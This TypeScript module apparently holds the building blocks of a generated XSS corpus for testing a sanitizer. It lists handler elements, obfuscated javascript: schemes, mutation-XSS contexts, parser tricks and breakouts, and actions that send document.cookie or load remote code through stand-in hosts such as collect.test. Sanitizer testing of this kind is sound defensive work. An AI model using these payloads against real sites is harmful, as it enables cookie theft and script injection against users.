import { decimalEntities, escapeForAttribute, hexEntities, jsUnicodeEscape } from './xss-encodings';

/**
 * The pieces the generated XSS corpus is combined from (xss-generator.ts). Written for this project
 * from the HTML parsing rules and the browser behaviours each piece relies on; the comments say which.
 */

/**
 * What the payload's script does: the sinks the harness hooks, reached in the ways payloads reach them.
 * None has whitespace, a quote or `>`, so each fits any attribute quoting and a URL.
 */
export const ACTIONS: readonly string[] = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'print()',
  'alert(document.domain)',
  'top.alert(1)',
  'self[`al`+`ert`](1)',
  'eval(atob(`YWxlcnQoMSk=`))',
  'setTimeout(atob(`YWxlcnQoMSk=`))',
  '[].constructor.constructor(atob(`YWxlcnQoMSk=`))()',
  'fetch(`/collect?`+document.cookie)',
  'document.cookie=document.domain',
  'navigator.sendBeacon(`/collect`,document.cookie)',
  'document.write(document.domain)',
  // self.: in a handler attribute a bare open() is document.open(), which leaves the page loading.
  'self.open(`https://elsewhere.test/`)',
  'alert`1`',
  '(alert)(1)',
  '[1].find(alert)',
  'top[/al/.source+/ert/.source](1)',
  'location=`https://elsewhere.test/`',
  'postMessage(document.cookie,`*`)',
  'window.xssMarker=1',
  'new/**/WebSocket(`wss://collect.test/`)',
  'import(`https://collect.test/m.js`)',
];

/** A payload that runs on its own in a page (`P` is the action), for the context families to wrap. */
export const CORES: readonly [string, (action: string) => string][] = [
  ['img onerror', (a) => `<img src=x onerror=${a}>`],
  ['svg onload', (a) => `<svg onload=${a}>`],
  ['script', (a) => `<script>${a}</script>`],
  ['iframe javascript:', (a) => `<iframe src=javascript:${a}></iframe>`],
  ['details ontoggle', (a) => `<details open ontoggle=${a}>`],
  ['input autofocus onfocus', (a) => `<input autofocus onfocus=${a}>`],
  ['style onload', (a) => `<style onload=${a}></style>`],
  ['video source onerror', (a) => `<video><source onerror=${a}></video>`],
];

/**
 * Elements that carry an event handler, each with what makes the handler fire (a failing source,
 * autofocus, an open state, an animation). `{A}` is where the handler attribute goes.
 */
export const HANDLER_ELEMENTS: readonly [string, string][] = [
  ['img', '<img src=x {A}>'],
  ['image', '<image src=x {A}>'],
  ['picture img', '<picture><source srcset=x><img src=x {A}></picture>'],
  ['svg', '<svg {A}></svg>'],
  ['svg animate', '<svg><animate attributeName=x dur=1s {A}></animate></svg>'],
  ['svg set', '<svg><set attributeName=x to=1 {A}></set></svg>'],
  ['svg image', '<svg><image href=x {A}></image></svg>'],
  ['svg rect', '<svg><rect width=9 height=9 {A}></rect></svg>'],
  ['svg discard', '<svg><discard {A}></discard></svg>'],
  ['svg foreignObject', '<svg><foreignObject {A}></foreignObject></svg>'],
  ['math', '<math {A}><mi>x</mi></math>'],
  ['math maction', '<math><maction actiontype=statusline {A}><mi>x</mi></maction></math>'],
  ['iframe', '<iframe {A}></iframe>'],
  ['object', '<object data=x {A}></object>'],
  ['embed', '<embed src=x {A}>'],
  ['a', '<a href=#x {A}>link</a>'],
  ['form', '<form {A}><input name=q></form>'],
  ['input', '<input autofocus {A}>'],
  ['input image', '<input type=image src=x {A}>'],
  ['button', '<button {A}>b</button>'],
  ['select', '<select autofocus {A}><option>x</option></select>'],
  ['textarea', '<textarea autofocus {A}>x</textarea>'],
  ['details', '<details open {A}><summary>s</summary>x</details>'],
  ['dialog', '<dialog open {A}>x</dialog>'],
  ['video', '<video src=x {A}></video>'],
  ['video source', '<video><source src=x {A}></video>'],
  ['audio', '<audio src=x {A}></audio>'],
  ['body', '<body {A}>'],
  ['style', '<style {A}></style>'],
  ['script src', '<script src=x {A}></script>'],
  ['link stylesheet', '<link rel=stylesheet href=x {A}>'],
  ['meta', '<meta {A}>'],
  ['base', '<base {A}>'],
  ['template', '<template {A}></template>'],
  ['noscript', '<noscript {A}></noscript>'],
  ['table', '<table {A}><td>x</td></table>'],
  ['td', '<table><td {A}>x</td></table>'],
  ['xmp', '<xmp {A}></xmp>'],
  ['noembed', '<noembed {A}></noembed>'],
  ['plaintext', '<plaintext {A}>'],
  ['marquee', '<marquee {A}>x</marquee>'],
  ['div', '<div {A}>x</div>'],
  ['contenteditable div', '<div contenteditable {A}>x</div>'],
  ['custom element', '<x-card {A}>x</x-card>'],
  ['unknown element', '<xss {A}>x</xss>'],
  ['keygen', '<keygen autofocus {A}>'],
  ['frameset', '<frameset {A}>'],
  ['popover', '<div popover id=pop {A}>x</div>'],
];

/** Event handler attributes, the common and the obscure (animation, SVG timing, toggle, media). */
export const HANDLERS: readonly string[] = [
  'onerror',
  'onload',
  'onfocus',
  'onfocusin',
  'onblur',
  'onmouseover',
  'onmouseenter',
  'onmousemove',
  'onpointerover',
  'onpointerenter',
  'onanimationstart',
  'onanimationend',
  'onwebkitanimationstart',
  'ontransitionend',
  'ontransitionrun',
  'ontoggle',
  'onbeforetoggle',
  'onbegin',
  'onend',
  'onrepeat',
  'onscroll',
  'onscrollend',
  'oninput',
  'onchange',
  'onkeydown',
  'onclick',
  'onauxclick',
  'ondblclick',
  'oncontextmenu',
  'onpageshow',
  'onstart',
  'onloadstart',
  'oncanplay',
  'onsubmit',
  'oninvalid',
  'onselect',
  'onwheel',
  'onpaste',
  'onbeforeinput',
  'onsearch',
  'oncontentvisibilityautostatechange',
];

/** An element whose handler fires without any help, in the markup it needs around it. */
export interface FiringElement {
  before: string;
  tag: string;
  attributes: string[];
  handler: string;
  after: string;
}

/** The firing elements the syntax families write in every way. */
export const FIRING_ELEMENTS: readonly FiringElement[] = [
  { before: '', tag: 'img', attributes: ['src=x'], handler: 'onerror', after: '' },
  { before: '', tag: 'svg', attributes: [], handler: 'onload', after: '' },
  { before: '', tag: 'body', attributes: [], handler: 'onload', after: '' },
  { before: '', tag: 'input', attributes: ['autofocus'], handler: 'onfocus', after: '' },
  { before: '', tag: 'details', attributes: ['open'], handler: 'ontoggle', after: '' },
  {
    before: '<svg>',
    tag: 'animate',
    attributes: ['attributeName=x', 'dur=1s'],
    handler: 'onbegin',
    after: '</svg>',
  },
  { before: '<video>', tag: 'source', attributes: ['src=x'], handler: 'onerror', after: '</video>' },
  { before: '', tag: 'audio', attributes: ['src=x'], handler: 'onerror', after: '</audio>' },
  { before: '', tag: 'iframe', attributes: [], handler: 'onload', after: '</iframe>' },
  { before: '', tag: 'style', attributes: [], handler: 'onload', after: '</style>' },
  { before: '', tag: 'script', attributes: ['src=x'], handler: 'onerror', after: '</script>' },
  { before: '', tag: 'object', attributes: ['data=x'], handler: 'onerror', after: '</object>' },
];

/**
 * Ways to write `javascript:` that URL parsing still reads as the scheme (leading controls and spaces
 * are stripped, tabs and newlines anywhere are removed, references are decoded in attributes), and
 * some it does not (a NUL becomes U+FFFD, a percent-escape or double-escaped reference stays text),
 * which a sanitizer must still treat consistently.
 */
export const JAVASCRIPT_SCHEMES: readonly [string, string][] = [
  ['plain', 'javascript:'],
  ['upper case', 'JAVASCRIPT:'],
  ['mixed case', 'JaVaScRiPt:'],
  ['leading space', ' javascript:'],
  ['leading controls', '\u0001\u0002javascript:'],
  ['leading control references', '&#1;&#14;javascript:'],
  ['tab inside', 'java\tscript:'],
  ['newline inside', 'java\nscript:'],
  ['carriage return inside', 'java\rscript:'],
  ['tab reference', 'java&#9;script:'],
  ['hex tab reference', 'jav&#x09;ascript:'],
  ['named tab', 'java&Tab;script:'],
  ['named newline', 'java&NewLine;script:'],
  ['named colon', 'javascript&colon;'],
  ['decimal references', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'],
  ['hex references', '&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;'],
  [
    'padded references',
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058',
  ],
  ['first letter reference', '&#x6A;avascript:'],
  ['NUL inside', 'java\u0000script:'],
  ['NUL reference', 'java&#0;script:'],
  ['percent in scheme', 'java%73cript:'],
  ['double-escaped reference', '&amp;#106;avascript:'],
  ['scheme as label', 'javascript:javascript:'],
  ['comment then newline', 'javascript://%0a'],
];

/** URL schemes besides javascript: that run script somewhere (`{S}` is the script). */
export const OTHER_SCRIPT_URLS: readonly [string, (script: string) => string][] = [
  ['vbscript', () => 'vbscript:msgbox(1)'],
  ['data html', (s) => `data:text/html,%3Cscript%3E${s}%3C/script%3E`],
  [
    'data html base64',
    (s) => `data:text/html;base64,${Buffer.from(`<script>${s}</script>`).toString('base64')}`,
  ],
  ['DATA upper case', (s) => `DATA:TEXT/HTML,%3Cscript%3E${s}%3C/script%3E`],
  [
    'data svg',
    (s) => `data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22${s}%22/%3E`,
  ],
  [
    'data svg base64',
    (s) =>
      `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${s}"/>`).toString('base64')}`,
  ],
  ['data javascript', (s) => `data:text/javascript,${s}`],
  ['data bare', (s) => `data:,${s}`],
];

/** Where a URL is followed, loaded or navigated to (`{U}` is the attribute, quoted as the family chose). */
export const URL_CARRIERS: readonly [string, string][] = [
  ['a href', '<a {U:href}>link</a>'],
  ['iframe src', '<iframe {U:src}></iframe>'],
  ['embed src', '<embed {U:src}>'],
  ['object data', '<object {U:data}></object>'],
  ['form action', '<form {U:action}><button>send</button></form>'],
  ['button formaction', '<form><button {U:formaction}>send</button></form>'],
  ['input formaction', '<form><input type=submit {U:formaction}></form>'],
  ['svg a href', '<svg><a {U:href}><text x=9 y=9>link</text></a></svg>'],
  ['svg a xlink:href', '<svg><a {U:xlink:href}><text x=9 y=9>link</text></a></svg>'],
  [
    'svg animate values',
    '<svg><a><animate attributeName=href {U:values} /><text x=9 y=9>link</text></a></svg>',
  ],
  ['svg set to', '<svg><a><set attributeName=href {U:to} /><text x=9 y=9>link</text></a></svg>'],
  ['svg script href', '<svg><script {U:href}></script></svg>'],
  ['math href', '<math {U:href}><mi>x</mi></math>'],
  ['img src', '<img {U:src}>'],
  ['video poster', '<video {U:poster}></video>'],
  ['input image src', '<input type=image {U:src}>'],
  ['base href', '<base {U:href}><a href=x>link</a>'],
  ['link href', '<link rel=stylesheet {U:href}>'],
  ['area href', '<map name=m><area shape=default {U:href}></map><img usemap=#m src=x>'],
  ['table background', '<table {U:background}><td>x</td></table>'],
  ['script src', '<script {U:src}></script>'],
  ['iframe src in div', '<div><iframe {U:src} width=9></iframe></div>'],
];

/**
 * Contexts that change how the browser parses what they hold: raw-text and escapable raw-text elements,
 * foreign content (SVG, MathML) and its HTML integration points, template, table foster-parenting,
 * select, form nesting, and the combinations behind published mutation XSS (markup inert as parsed that
 * runs once serialized and parsed again). `{P}` is the payload.
 */
export const MUTATION_CONTEXTS: readonly [string, string][] = [
  ['noscript', '<noscript>{P}</noscript>'],
  ['noscript attribute breakout', '<noscript><p title="</noscript>{P}"></p></noscript>'],
  ['noembed attribute breakout', '<noembed><p title="</noembed>{P}"></p></noembed>'],
  ['noframes attribute breakout', '<noframes><p title="</noframes>{P}"></p></noframes>'],
  ['xmp attribute breakout', '<xmp><p title="</xmp>{P}"></p></xmp>'],
  ['iframe attribute breakout', '<iframe><p title="</iframe>{P}"></p></iframe>'],
  ['title attribute breakout', '<title><p title="</title>{P}"></p></title>'],
  ['textarea attribute breakout', '<textarea><p title="</textarea>{P}"></p></textarea>'],
  ['style attribute breakout', '<style><p title="</style>{P}"></p></style>'],
  ['style', '<style>{P}</style>'],
  ['svg style', '<svg><style>{P}</style></svg>'],
  ['svg style attribute', '<svg><style><p title="</style>{P}"></p></style></svg>'],
  ['math style', '<math><style>{P}</style></math>'],
  ['math mglyph style', '<math><mtext><table><mglyph><style>{P}</style></mglyph></table></mtext></math>'],
  [
    'math mglyph style comment',
    '<math><mtext><table><mglyph><style><!--</style><p title="-->{P}"></p></style></mglyph></table></mtext></math>',
  ],
  [
    'math svg textarea',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>{P}"></path></textarea></mtext></svg></mglyph></mi></math>',
  ],
  ['svg closing p style', '<svg></p><style><a id="</style>{P}"></a></style></svg>'],
  [
    'form nesting mglyph',
    '<form><math><mtext></form><form><mglyph><style></math>{P}</style></mglyph></form></mtext></math></form>',
  ],
  [
    'heading nesting mglyph',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>{P}"></a></style></mtext></svg></mglyph></h1></mtext></math>',
  ],
  [
    'malignmark style',
    '<math><mtext><table><malignmark><style>{P}</style></malignmark></table></mtext></math>',
  ],
  ['template', '<template>{P}</template>'],
  ['template in select', '<select><template>{P}</template></select>'],
  ['table', '<table>{P}</table>'],
  ['table cell', '<table><td>{P}</td></table>'],
  ['table caption', '<table><caption>{P}</caption></table>'],
  ['table colgroup', '<table><colgroup>{P}</colgroup></table>'],
  ['table row', '<table><tr>{P}</tr></table>'],
  ['select', '<select>{P}</select>'],
  ['select option', '<select><option>{P}</option></select>'],
  ['textarea', '<textarea>{P}</textarea>'],
  ['after textarea', '<textarea></textarea>{P}'],
  ['title', '<title>{P}</title>'],
  ['xmp', '<xmp>{P}</xmp>'],
  ['plaintext', '<plaintext>{P}'],
  ['noembed', '<noembed>{P}</noembed>'],
  ['iframe content', '<iframe>{P}</iframe>'],
  ['svg', '<svg>{P}</svg>'],
  ['math', '<math>{P}</math>'],
  ['svg foreignObject', '<svg><foreignObject>{P}</foreignObject></svg>'],
  ['svg desc', '<svg><desc>{P}</desc></svg>'],
  ['svg title', '<svg><title>{P}</title></svg>'],
  ['math mtext', '<math><mtext>{P}</mtext></math>'],
  ['math mi', '<math><mi>{P}</mi></math>'],
  ['annotation-xml html', '<math><annotation-xml encoding="text/html">{P}</annotation-xml></math>'],
  [
    'annotation-xml xhtml',
    '<math><annotation-xml encoding="application/xhtml+xml">{P}</annotation-xml></math>',
  ],
  ['math mglyph', '<math><mglyph>{P}</mglyph></math>'],
  ['math malignmark', '<math><malignmark>{P}</malignmark></math>'],
  ['form in form', '<form><form>{P}</form></form>'],
  ['a in a', '<a href=#x><a href=#y>{P}</a></a>'],
  ['details', '<details open>{P}</details>'],
  ['object content', '<object>{P}</object>'],
  ['attribute value', '<div title="{P}">x</div>'],
];

/**
 * Comment, CDATA, processing-instruction and end-tag tricks: where the HTML tokenizer ends a comment
 * sooner or later than a naive parser would (`<!-->`, `--!>`, bogus comments ended by the first `>`),
 * CDATA that is real only in foreign content, and namespace declarations. `{P}` is the payload.
 */
export const COMMENT_TRICKS: readonly [string, string][] = [
  ['abrupt comment', '<!-->{P}'],
  ['abrupt comment dash', '<!--->{P}'],
  ['bang close', '<!-- --!>{P}'],
  ['nested open', '<!--<!-->{P}'],
  ['comment', '<!--{P}-->'],
  ['conditional comment', '<!--[if IE]>{P}<![endif]-->'],
  ['downlevel-revealed conditional', '<![if !IE]>{P}<![endif]>'],
  ['cdata in html closed early', '<![CDATA[>{P}]]>'],
  ['cdata in html', '<![CDATA[{P}]]>'],
  ['cdata in svg', '<svg><![CDATA[{P}]]></svg>'],
  ['cdata in svg then payload', '<svg><![CDATA[><]]>{P}</svg>'],
  ['processing instruction', '<?xml version="1.0"?>{P}'],
  ['processing instruction around', '<?{P}?>'],
  ['bogus declaration', '<!x>{P}'],
  ['end tag with space', '</ x>{P}'],
  ['end tag with attributes', '</x title="a">{P}'],
  ['comment inside attribute', '<a title="<!--">x</a>{P}<!--">'],
  ['comment ending inside attribute', '<!--<img src="-->{P}">'],
  ['style comment', '<style><!--</style>{P}--></style>'],
  ['noscript comment', '<noscript><!--</noscript>{P}--></noscript>'],
  ['svg comment', '<svg><!--{P}--></svg>'],
  ['svg style cdata', '<svg><style><![CDATA[</style>{P}]]></style></svg>'],
  ['xhtml namespace in svg', '<svg><x:p xmlns:x="http://www.w3.org/1999/xhtml">{P}</x:p></svg>'],
  ['svg namespace on html', '<html xmlns="http://www.w3.org/2000/svg">{P}'],
  ['xlink namespace', '<svg xmlns:xlink="http://www.w3.org/1999/xlink">{P}</svg>'],
];

/** Closers an injected payload opens with, to leave an attribute, a comment or a raw-text element. */
export const BREAKOUTS: readonly [string, string][] = [
  ['double quote', '">{P}'],
  ['single quote', "'>{P}"],
  ['self-closing', '"/>{P}'],
  ['comment end', '-->{P}'],
  ['bang comment end', '--!>{P}'],
  ['cdata end', ']]>{P}'],
  ['style end', '*/</style>{P}'],
  ['script end', '</script>{P}'],
  ['title end', '</title>{P}'],
  ['textarea end', '</textarea>{P}'],
  ['backtick', '`>{P}'],
  ['tag end upper case', '</TEXTAREA >{P}'],
];

/** Attribute quoting tricks around a firing element (`{S}` is the script). */
export const QUOTING_TRICKS: readonly [string, string][] = [
  ['no space after quoted value', '<img src="x"onerror="{S}">'],
  ['trailing junk after quote', '<img src=x onerror="{S}"x>'],
  ['comment-terminated', '<img src=x onerror={S}//'],
  ['unterminated tag', '<img src=x onerror={S} '],
  ['quote in tag name position', '<img """><script>{S}</script>">'],
  ['duplicate handler, first inert', '<img src=x onerror=void(0) onerror={S}>'],
  ['duplicate handler, first runs', '<img src=x onerror={S} onerror=void(0)>'],
  ['src looks like scheme', '<img src=x:x onerror={S}>'],
  ['empty src', '<img src onerror={S}>'],
  ['slash-separated bare attribute', '<img/src/onerror={S}>'],
  ['quote inside title', `<a title='"' onmouseover={S}>x</a>`],
  ['payload inside title', '<img title="><img src=x onerror={S}>">'],
  ['quoted entity string', '<img src=x onerror=&quot;{S}&quot;>'],
  ['greater-than in quoted value', '<img alt="a>b" src=x onerror={S}>'],
  ['attribute without a name', '<img ="x" src=x onerror={S}>'],
  ['lt in attribute name', '<img src=x <onerror={S}>'],
];

/** Ways to write a script element (`{S}` is the script). */
export const SCRIPT_FORMS: readonly [string, (script: string) => string][] = [
  ['plain', (s) => `<script>${s}</script>`],
  ['upper case', (s) => `<SCRIPT>${s}</SCRIPT>`],
  ['mixed case', (s) => `<ScRiPt>${s}</sCrIpT>`],
  ['space before close', (s) => `<script >${s}</script >`],
  ['newline before close', (s) => `<script\n>${s}</script\n>`],
  ['slash attribute', (s) => `<script/x>${s}</script>`],
  ['attribute on end tag', (s) => `<script x>${s}</script x>`],
  ['unclosed', (s) => `<script>${s}`],
  ['data src', (s) => `<script src=data:,${s}></script>`],
  ['slash data src', (s) => `<script/src=data:,${s}></script>`],
  ['data javascript src', (s) => `<script src="data:text/javascript,${s}"></script>`],
  [
    'data base64 src',
    (s) => `<script src=data:text/javascript;base64,${Buffer.from(s).toString('base64')}></script>`,
  ],
  ['module', (s) => `<script type=module>${s}</script>`],
  ['text/javascript', (s) => `<script type=text/javascript>${s}</script>`],
  ['language attribute', (s) => `<script language=javascript>${s}</script>`],
  ['text/plain', (s) => `<script type=text/plain>${s}</script>`],
  ['comment inside', (s) => `<script><!--\n${s}//--></script>`],
  ['comment start after', (s) => `<script>${s}<!--</script>`],
  ['closed inside comment', (s) => `<script>/*</script><img src=x onerror=${s}>*/</script>`],
  ['split by nested tag', (s) => `<scr<script>ipt>${s}</scr</script>ipt>`],
  ['doubled open bracket', (s) => `<<script>${s}//<</script>`],
  ['svg', (s) => `<svg><script>${s}</script></svg>`],
  ['svg decimal references', (s) => `<svg><script>${decimalEntities(s)}</script></svg>`],
  ['svg hex references', (s) => `<svg><script>${hexEntities(s)}</script></svg>`],
  ['svg href data', (s) => `<svg><script href=data:,${s} /></svg>`],
  ['svg xlink:href data', (s) => `<svg><script xlink:href=data:,${s}></script></svg>`],
  ['svg ecmascript', (s) => `<svg><script type=text/ecmascript>${s}</script></svg>`],
  ['svg desc', (s) => `<svg><desc><script>${s}</script></desc></svg>`],
  ['math', (s) => `<math><script>${s}</script></math>`],
  ['template', (s) => `<template><script>${s}</script></template>`],
  ['noscript', (s) => `<noscript><script>${s}</script></noscript>`],
  ['unicode escape', (s) => `<script>${jsUnicodeEscape(s)}</script>`],
];

/** Ways to hide markup in an iframe's srcdoc document (it is decoded once, then parsed as a page). */
export const SRCDOC_FORMS: readonly [string, (html: string) => string][] = [
  [
    'escaped',
    (html) =>
      `<iframe srcdoc="${escapeForAttribute(html).replace(/</g, '&lt;').replace(/>/g, '&gt;')}"></iframe>`,
  ],
  ['single-quoted raw', (html) => `<iframe srcdoc='${html}'></iframe>`],
  ['double-quoted raw', (html) => `<iframe srcdoc="${html}"></iframe>`],
  ['decimal references', (html) => `<iframe srcdoc="${decimalEntities(html)}"></iframe>`],
  ['hex references', (html) => `<iframe srcdoc="${hexEntities(html)}"></iframe>`],
  [
    'legacy upper-case LT',
    (html) => `<iframe srcdoc="${html.replace(/</g, '&LT;').replace(/>/g, '&GT;')}"></iframe>`,
  ],
  ['double-escaped', (html) => `<iframe srcdoc="${html.replace(/</g, '&amp;lt;')}"></iframe>`],
];
